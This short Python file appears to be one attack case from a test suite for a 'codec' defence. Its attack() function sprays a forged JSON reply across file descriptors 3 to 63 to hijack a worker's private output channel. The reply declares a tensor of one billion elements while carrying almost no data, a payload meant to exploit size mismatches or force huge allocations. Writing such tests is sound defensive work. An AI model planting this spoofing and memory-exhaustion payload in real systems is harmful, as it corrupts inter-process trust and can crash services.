"""Write a forged reply on the protocol's channel: an array whose header lies about its size."""
import os

DEFENCE = "codec"


def attack(t):
    line = b'{"ok":true,"value":{"__array__":"tensor","dtype":"float32","wire_dtype":"float32",' \
           b'"shape":[1000000000],"requires_grad":false,"data":"AAAAAA=="}}\n'
    for fd in range(3, 64):  # the worker's private copy of stdout is one of these
        try:
            os.write(fd, line)
        except OSError:
            pass
    return ""
